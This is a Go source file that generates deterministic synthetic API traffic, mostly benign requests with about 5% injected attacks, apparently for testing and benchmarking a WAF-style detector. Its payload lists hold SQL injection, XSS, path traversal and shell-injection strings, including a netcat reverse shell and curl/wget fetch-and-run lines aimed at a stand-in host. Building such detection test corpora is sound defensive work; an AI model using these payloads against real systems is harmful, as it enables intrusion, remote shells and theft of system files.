package detect

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"

	"github.com/apisessions/apisessions"
)

// A generated corpus of realistic API traffic with attacks mixed in, for
// the parity test and the benchmark. Deterministic for a seed.

var (
	resources = []string{"users", "orders", "products", "invoices", "carts", "sessions", "accounts", "payments", "shipments", "reviews"}
	words     = []string{"alpha", "blue", "coffee", "delivery", "express", "fresh", "green", "house", "item", "jacket", "kitchen", "lamp", "market", "north", "office", "paper", "quick", "river", "summer", "table", "union", "valley", "winter", "yellow", "zone", "select", "order", "from", "update", "drop", "script", "alert", "exec", "system", "cat", "where", "and", "or", "not", "null", "true", "like", "sleep", "file", "http", "java", "class", "data", "eval"}
	statuses  = []string{"active", "pending", "shipped", "cancelled", "refunded", "draft"}
	sorts     = []string{"name", "-created_at", "price", "updated_at", "id", "-score"}
	agents    = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
		"okhttp/4.12.0", "python-requests/2.32.3", "MyShopApp/3.4.1 (Android 14; Pixel 8)", "axios/1.7.2",
	}
	sqli = []string{"1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'--", "1' AND extractvalue(1,concat(0x7e,version()))--", "-1 or 1=1"}
	xss  = []string{"<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)", "\"><svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>"}
	rce  = []string{"; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x.sh|sh)", "`id`", "; wget http://evil.example/a -O /tmp/a"}
	trav = []string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts", "..\\..\\windows\\win.ini", "/etc/passwd"}
)

type corpusGen struct{ r *rand.Rand }

func newCorpus(seed uint64) *corpusGen { return &corpusGen{r: rand.New(rand.NewPCG(seed, 42))} }

func (g *corpusGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

func (g *corpusGen) uuid() string {
	return fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", g.r.Uint32(), g.r.IntN(1<<16), g.r.IntN(1<<12), g.r.IntN(1<<12), g.r.Uint64()&(1<<48-1))
}

func (g *corpusGen) sentence(n int) string {
	ws := make([]string, n)
	for i := range ws {
		ws[i] = g.pick(words)
	}
	s := strings.Join(ws, " ")
	return strings.ToUpper(s[:1]) + s[1:] + "."
}

// value is a benign parameter value of some common API kind.
func (g *corpusGen) value() string {
	switch g.r.IntN(12) {
	case 0:
		return fmt.Sprint(g.r.IntN(100000))
	case 1:
		return g.uuid()
	case 2:
		return g.pick(words) + "." + g.pick(words) + "@example.com"
	case 3:
		return fmt.Sprintf("2026-%02d-%02dT%02d:%02d:00Z", 1+g.r.IntN(12), 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60))
	case 4:
		return g.pick(statuses)
	case 5:
		return g.pick(sorts)
	case 6:
		return g.pick(words) + " " + g.pick(words)
	case 7:
		return fmt.Sprint(g.r.IntN(2) == 0)
	case 8:
		return g.pick(statuses) + "," + g.pick(statuses)
	case 9:
		return fmt.Sprintf("%.2f", g.r.Float64()*1000)
	case 10:
		return "https://cdn.example.com/img/" + g.pick(words) + ".png"
	}
	return g.pick(words)
}

func (g *corpusGen) headers() apisessions.Headers {
	h := apisessions.Headers{
		{Name: "Host", Value: "api.example.com"},
		{Name: "User-Agent", Value: g.pick(agents)},
		{Name: "Accept", Value: "application/json"},
		{Name: "Accept-Encoding", Value: "gzip, deflate, br"},
		{Name: "Accept-Language", Value: "en-US,en;q=0.9"},
		{Name: "X-Request-ID", Value: g.uuid()},
		{Name: "Authorization", Value: "Bearer eyJhbGciOiJIUzI1NiJ9." + base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"sub":"%d","exp":%d}`, g.r.IntN(1e6), 1.8e9+g.r.IntN(1e6)))) + ".c2lnbmF0dXJl"},
	}
	if g.r.IntN(3) == 0 {
		h = append(h, apisessions.Header{Name: "Cookie", Value: "sid=" + g.uuid() + "; theme=dark; lang=en"})
	}
	return h
}

// benignGET is a GET with 5 to 10 query parameters.
func (g *corpusGen) benignGET() *apisessions.Exchange {
	n := 5 + g.r.IntN(6)
	q := url.Values{}
	for i := 0; i < n; i++ {
		q.Set(fmt.Sprintf("%s_%d", g.pick([]string{"id", "page", "size", "sort", "status", "q", "from", "to", "lang", "filter", "fields", "tag"}), i), g.value())
	}
	return &apisessions.Exchange{ClientIP: "203.0.113.7", Request: apisessions.Request{
		Method: "GET", URL: fmt.Sprintf("/api/v1/%s/%d?%s", g.pick(resources), g.r.IntN(1e5), q.Encode()), Headers: g.headers(),
	}}
}

// jsonBody is an object of about size bytes.
func (g *corpusGen) jsonBody(size int) map[string]any {
	obj := map[string]any{"id": g.uuid(), "status": g.pick(statuses), "email": g.value(), "created_at": g.value()}
	var items []any
	for n := 0; ; n++ {
		b, _ := json.Marshal(obj)
		if len(b) >= size {
			break
		}
		items = append(items, map[string]any{"sku": fmt.Sprintf("SKU-%06d", g.r.IntN(1e6)), "qty": g.r.IntN(9) + 1, "price": g.r.Float64() * 100, "note": g.sentence(3 + g.r.IntN(6)), "gift": g.r.IntN(2) == 0})
		obj["items"] = items
		if n%3 == 2 {
			obj["comment"] = g.sentence(8 + g.r.IntN(10))
		}
	}
	return obj
}

// benignJSON is a POST or PUT with a 0.5 to 4 KB JSON body.
func (g *corpusGen) benignJSON() *apisessions.Exchange {
	body, _ := json.Marshal(g.jsonBody(500 + g.r.IntN(3500)))
	h := append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/json"}, apisessions.Header{Name: "Content-Length", Value: fmt.Sprint(len(body))})
	return &apisessions.Exchange{ClientIP: "203.0.113.7", Request: apisessions.Request{
		Method: g.pick([]string{"POST", "PUT"}), URL: fmt.Sprintf("/api/v1/%s/%d", g.pick(resources), g.r.IntN(1e5)), Headers: h, Body: body,
	}}
}

// attack puts one payload in one place (query, JSON body, form, header,
// cookie), URL-, base64- or JSON-escaped.
func (g *corpusGen) attack() *apisessions.Exchange {
	payload := g.pick([][]string{sqli, xss, rce, trav}[g.r.IntN(4)])
	if g.r.IntN(6) == 0 {
		payload = base64.StdEncoding.EncodeToString([]byte(payload))
	}
	var ex *apisessions.Exchange
	switch g.r.IntN(5) {
	case 0: // query
		ex = g.benignGET()
		esc := url.QueryEscape(payload)
		if g.r.IntN(2) == 0 {
			esc = strings.ReplaceAll(url.PathEscape(payload), "&", "%26")
		}
		ex.Request.URL += "&x=" + esc
	case 1: // JSON body, escaped by the encoder (<, >, & become \u003c ...)
		obj := g.jsonBody(600)
		obj["comment"] = payload
		body, _ := json.Marshal(obj)
		ex = &apisessions.Exchange{ClientIP: "198.51.100.9", Request: apisessions.Request{Method: "POST", URL: "/api/v1/reviews", Headers: append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/json"}), Body: body}}
	case 2: // form
		body := "login=" + url.QueryEscape(g.pick(words)) + "&q=" + url.QueryEscape(payload)
		ex = &apisessions.Exchange{ClientIP: "198.51.100.9", Request: apisessions.Request{Method: "POST", URL: "/login", Headers: append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}), Body: []byte(body)}}
	case 3: // header
		ex = g.benignGET()
		ex.Request.Headers = append(ex.Request.Headers, apisessions.Header{Name: "X-Forwarded-Host", Value: payload})
	default: // cookie
		ex = g.benignGET()
		ex.Request.Headers = append(ex.Request.Headers, apisessions.Header{Name: "Cookie", Value: "pref=" + url.QueryEscape(payload)})
	}
	return ex
}

// mixWithAttacks is mix(n) followed by that many more attacks.
func (g *corpusGen) mixWithAttacks(n, attacks int) []*apisessions.Exchange {
	exs := g.mix(n)
	for range attacks {
		exs = append(exs, g.attack())
	}
	return exs
}

// mix is the benchmark mix: 70% GET, 25% JSON POST/PUT, 5% attacks.
func (g *corpusGen) mix(n int) []*apisessions.Exchange {
	out := make([]*apisessions.Exchange, n)
	for i := range out {
		switch x := g.r.IntN(100); {
		case x < 70:
			out[i] = g.benignGET()
		case x < 95:
			out[i] = g.benignJSON()
		default:
			out[i] = g.attack()
		}
	}
	return out
}

func mustJSON(v any) []byte {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

// The API corpus: benign traffic that reads like a real API's (product
// names, addresses, reviews, search terms, IDs, dates, enum values), in
// which English words such as "select", "order", "from" or "and" come at
// their natural frequency, not as the keyword list above. Same 70/25/5
// split, same attack generator.

var (
	apiProducts = []string{
		"Wireless Mouse M185", "Stainless Steel Water Bottle 750 ml", "Organic Green Tea, 100 bags", "USB-C Charging Cable 2 m",
		"Men's Trail Running Shoes", "Ceramic Coffee Mug (set of 4)", "LED Desk Lamp with Dimmer", "Bamboo Cutting Board",
		"Noise Cancelling Headphones", "Yoga Mat 6 mm", "Cotton T-Shirt - Navy, L", "Kids' Rain Jacket", "Cast Iron Skillet 26 cm",
		"Mechanical Keyboard TKL", "Espresso Beans 1 kg", "Leather Wallet, Brown", "Smart Watch Series 5", "Garden Hose 15 m",
		"Wool Socks (3 pairs)", "Portable Bluetooth Speaker", "Standing Desk Frame", "Baby Stroller Lightweight", "Dog Bed Large",
	}
	apiCategories = []string{"electronics", "home-kitchen", "garden", "clothing", "shoes", "toys", "books", "sports", "beauty", "pet-supplies", "office"}
	apiSearches   = []string{
		"red dress", "laptop stand", "coffee beans 1kg", "iphone 15 case", "best running shoes for women", "usb c hub",
		"gift for dad", "winter jacket kids", "desk lamp", "organic honey", "hiking boots size 44", "phone charger fast",
		"table and chairs", "select comfort pillow", "black friday deals", "wireless earbuds", "air fryer", "order status",
	}
	apiFirst   = []string{"Emma", "Liam", "Olivia", "Noah", "Ava", "Lucas", "Sofia", "Mateo", "Mia", "Hugo", "Chloe", "Jonas", "Aisha", "Kenji", "Priya", "Diego"}
	apiLast    = []string{"Smith", "Johnson", "Garcia", "Müller", "Rossi", "Dubois", "Kowalski", "Tanaka", "Patel", "Silva", "Nguyen", "Andersen", "Kim", "Brown"}
	apiStreets = []string{"Baker Street", "Oak Avenue", "Main Street", "Rue de Rivoli", "Elm Drive", "Market Square", "Harbour Road", "Park Lane", "Hauptstraße", "Sunset Boulevard"}
	apiCities  = []string{"London", "Paris", "Berlin", "Madrid", "Lisbon", "Austin", "Toronto", "Osaka", "Melbourne", "Dublin", "Warsaw", "Milan"}
	apiTexts   = []string{
		"Great product, arrived on time and works exactly as described.",
		"The size runs a bit small, so I would order one size up.",
		"Please leave the parcel with the neighbour if nobody is at home.",
		"Customer asked to update the delivery address and to drop the gift wrap.",
		"Select a delivery slot between 9 and 12 and we will call you before arrival.",
		"Ships from our warehouse in Lyon within two business days.",
		"Made from recycled materials, machine washable at 30 degrees.",
		"Battery lasts about ten hours, and charging takes less than an hour.",
		"I returned the first one because the colour was different from the photo.",
		"Works well with both Windows and macOS, no drivers needed.",
		"Order was split into two shipments; the second one is still on its way.",
		"Fits most standard cup holders and keeps drinks cold for 24 hours.",
		"Not bad for the price, but the lid is hard to open.",
		"Includes a two-year warranty and free returns within 30 days.",
		"The customer wants to know where the nearest pick-up point is.",
		"Bought this as a gift for my sister and she loves it!",
		"Assembly took about 20 minutes with the tools included in the box.",
		"Please update the invoice with our new VAT number.",
		"Available in black, white and grey; other colours on request.",
		"Delivery was late by a day, otherwise everything was fine.",
		"Can I change the size after the order has been confirmed?",
		"Soft fabric, true to size, and the stitching looks solid.",
		"We will refund the difference to the original payment method.",
		"Comes with a 1.5 m cable and a travel pouch.",
	}
	apiParams = []string{"q", "page", "per_page", "sort", "order", "status", "category", "min_price", "max_price", "from", "to",
		"customer_id", "fields", "include", "lang", "currency", "city", "tag", "updated_since", "limit", "cursor", "brand"}
	apiCurrencies = []string{"USD", "EUR", "GBP", "JPY", "CAD", "PLN"}
)

type apiGen struct{ *corpusGen }

// newAPICorpus is the generator of the API corpus.
func newAPICorpus(seed uint64) apiGen { return apiGen{newCorpus(seed)} }

func (g apiGen) name() string { return g.pick(apiFirst) + " " + g.pick(apiLast) }

func (g apiGen) date() string {
	return fmt.Sprintf("2026-%02d-%02d", 1+g.r.IntN(12), 1+g.r.IntN(28))
}

func (g apiGen) text(max int) string {
	n := 1 + g.r.IntN(max)
	s := make([]string, n)
	for i := range s {
		s[i] = g.pick(apiTexts)
	}
	return strings.Join(s, " ")
}

func (g apiGen) address() map[string]any {
	return map[string]any{
		"line1":   fmt.Sprintf("%d %s", 1+g.r.IntN(300), g.pick(apiStreets)),
		"city":    g.pick(apiCities),
		"zip":     fmt.Sprintf("%05d", g.r.IntN(100000)),
		"country": g.pick([]string{"GB", "FR", "DE", "ES", "PT", "US", "CA", "JP", "AU", "IE", "PL", "IT"}),
	}
}

// param is a benign value for the query parameter name.
func (g apiGen) param(name string) string {
	switch name {
	case "q":
		return g.pick(apiSearches)
	case "page", "limit", "per_page":
		return fmt.Sprint(1 + g.r.IntN(50))
	case "sort":
		return g.pick([]string{"price", "-price", "created_at", "-updated_at", "name", "rating"})
	case "order":
		return g.pick([]string{"asc", "desc"})
	case "status":
		return g.pick(statuses)
	case "category":
		return g.pick(apiCategories)
	case "min_price", "max_price":
		return fmt.Sprintf("%d.%02d", g.r.IntN(500), g.r.IntN(100))
	case "from", "to":
		return g.date()
	case "updated_since":
		return g.date() + fmt.Sprintf("T%02d:%02d:00Z", g.r.IntN(24), g.r.IntN(60))
	case "customer_id":
		return fmt.Sprintf("cus_%x", g.r.Uint64()&(1<<40-1))
	case "fields":
		return g.pick([]string{"id,name,price", "id,status,total", "name,description,images", "id,email"})
	case "include":
		return g.pick([]string{"items", "customer", "items,shipping", "reviews"})
	case "lang":
		return g.pick([]string{"en", "fr", "de", "es", "en-GB", "pt-BR"})
	case "currency":
		return g.pick(apiCurrencies)
	case "city":
		return g.pick(apiCities)
	case "tag":
		return g.pick([]string{"sale", "new", "eco", "bestseller", "gift"})
	case "cursor":
		return base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"id":%d}`, g.r.IntN(1e6))))
	}
	return g.pick([]string{"acme", "lumen", "contoso", "globex", "initech"})
}

// benignGET is a GET with 5 to 10 query parameters.
func (g apiGen) benignGET() *apisessions.Exchange {
	n := 5 + g.r.IntN(6)
	q := url.Values{}
	for _, i := range g.r.Perm(len(apiParams))[:n] {
		q.Set(apiParams[i], g.param(apiParams[i]))
	}
	path := fmt.Sprintf("/api/v2/%s", g.pick(resources))
	if g.r.IntN(3) == 0 {
		path += fmt.Sprintf("/%d", g.r.IntN(1e6))
	}
	return &apisessions.Exchange{ClientIP: "203.0.113.7", Request: apisessions.Request{
		Method: "GET", URL: path + "?" + q.Encode(), Headers: g.headers(),
	}}
}

// jsonBody is an order, a review or a product of about size bytes.
func (g apiGen) jsonBody(size int) (string, map[string]any) {
	var obj map[string]any
	var res string
	var grow func()
	switch g.r.IntN(3) {
	case 0:
		res = "orders"
		var items []any
		obj = map[string]any{
			"customer": map[string]any{"id": fmt.Sprintf("cus_%x", g.r.Uint64()&(1<<40-1)), "name": g.name(),
				"email": strings.ToLower(g.pick(apiFirst)) + "." + strings.ToLower(g.pick(apiLast)) + "@example.com",
				"phone": fmt.Sprintf("+1 415-555-%04d", g.r.IntN(10000))},
			"shipping_address": g.address(), "billing_address": g.address(), "currency": g.pick(apiCurrencies),
			"status": g.pick(statuses), "created_at": g.date(), "note": g.text(2),
		}
		grow = func() {
			items = append(items, map[string]any{"sku": fmt.Sprintf("SKU-%06d", g.r.IntN(1e6)), "name": g.pick(apiProducts),
				"quantity": 1 + g.r.IntN(4), "unit_price": float64(g.r.IntN(20000)) / 100, "gift": g.r.IntN(5) == 0})
			obj["items"] = items
		}
	case 1:
		res = "reviews"
		var replies []any
		obj = map[string]any{"product_id": g.uuid(), "rating": 1 + g.r.IntN(5), "title": g.pick(apiTexts),
			"body": g.text(3), "author": g.name(), "verified_purchase": g.r.IntN(2) == 0, "created_at": g.date()}
		grow = func() {
			replies = append(replies, map[string]any{"author": g.name(), "text": g.text(2), "created_at": g.date()})
			obj["replies"] = replies
		}
	default:
		res = "products"
		var variants []any
		obj = map[string]any{"name": g.pick(apiProducts), "description": g.text(4), "category": g.pick(apiCategories),
			"price": map[string]any{"amount": float64(g.r.IntN(50000)) / 100, "currency": g.pick(apiCurrencies)},
			"tags":  []string{g.pick(apiCategories), g.pick([]string{"sale", "new", "eco", "bestseller"})}, "stock": g.r.IntN(500), "active": true}
		grow = func() {
			variants = append(variants, map[string]any{"sku": fmt.Sprintf("SKU-%06d", g.r.IntN(1e6)),
				"color": g.pick([]string{"black", "white", "navy", "red", "grey"}), "size": g.pick([]string{"S", "M", "L", "XL", "one size"}),
				"stock": g.r.IntN(100), "barcode": fmt.Sprintf("%013d", g.r.Int64N(1e13))})
			obj["variants"] = variants
		}
	}
	for {
		if b, _ := json.Marshal(obj); len(b) >= size {
			return res, obj
		}
		grow()
	}
}

// benignJSON is a POST or PUT with a 0.5 to 4 KB JSON body.
func (g apiGen) benignJSON() *apisessions.Exchange {
	res, obj := g.jsonBody(500 + g.r.IntN(3300)) // a last item of at most ~200 bytes keeps it under 4 KB
	body, _ := json.Marshal(obj)
	method, path := "POST", "/api/v2/"+res
	if g.r.IntN(3) == 0 {
		method, path = "PUT", fmt.Sprintf("%s/%d", path, g.r.IntN(1e6))
	}
	h := append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/json"}, apisessions.Header{Name: "Content-Length", Value: fmt.Sprint(len(body))})
	return &apisessions.Exchange{ClientIP: "203.0.113.7", Request: apisessions.Request{Method: method, URL: path, Headers: h, Body: body}}
}

// mix is the API mix: 70% GET with 5 to 10 parameters, 25% JSON POST or
// PUT with 0.5 to 4 KB bodies, 5% attacks; attack reports which are.
func (g apiGen) mix(n int) (exs []*apisessions.Exchange, attack []bool) {
	exs, attack = make([]*apisessions.Exchange, n), make([]bool, n)
	for i := range exs {
		switch x := g.r.IntN(100); {
		case x < 70:
			exs[i] = g.benignGET()
		case x < 95:
			exs[i] = g.benignJSON()
		default:
			exs[i], attack[i] = g.attack(), true
		}
	}
	return exs, attack
}

// apiRCE is rce without "`id`", which CRS at paranoia level 1 does not
// flag anywhere: the API mix holds only attacks CRS flags.
var apiRCE = slices.DeleteFunc(slices.Clone(rce), func(s string) bool { return s == "`id`" })

// attack is an API request carrying one payload of the attack lists above
// in a place CRS inspects at paranoia level 1 (a query parameter, a JSON
// field, a form field, a cookie), URL- or JSON-escaped. Cookies carry no
// shell command: CRS at paranoia level 1 flags "| nc ..." or "$(curl ...)"
// in a query parameter, not in a cookie.
func (g apiGen) attack() *apisessions.Exchange {
	place := g.r.IntN(4)
	lists := [][]string{sqli, xss, apiRCE, trav}
	if place == 3 {
		lists = [][]string{sqli, xss, trav}
	}
	return g.attackAt(g.pick(lists[g.r.IntN(len(lists))]), place)
}

func (g apiGen) attackAt(payload string, place int) *apisessions.Exchange {
	var ex *apisessions.Exchange
	switch place {
	case 0: // query
		ex = g.benignGET()
		ex.Request.URL += "&" + g.pick(apiParams) + "=" + url.QueryEscape(payload)
	case 1: // JSON body, escaped by the encoder (<, >, & become \u003c ...)
		ex = g.benignJSON()
		_, obj := g.jsonBody(500 + g.r.IntN(1500))
		obj[g.pick([]string{"note", "comment", "title", "name", "search"})] = payload
		ex.Request.Body = mustJSON(obj)
		ex.Request.Headers = ex.Request.Headers[:len(ex.Request.Headers)-1] // no stale Content-Length
	case 2: // form
		body := "username=" + url.QueryEscape(strings.ToLower(g.pick(apiFirst))) + "&password=" + url.QueryEscape(payload)
		ex = &apisessions.Exchange{ClientIP: "198.51.100.9", Request: apisessions.Request{Method: "POST", URL: "/api/v2/login", Headers: append(g.headers(), apisessions.Header{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}), Body: []byte(body)}}
	default: // cookie
		ex = g.benignGET()
		ex.Request.Headers = append(ex.Request.Headers, apisessions.Header{Name: "Cookie", Value: "pref=" + url.QueryEscape(payload)})
	}
	return ex
}
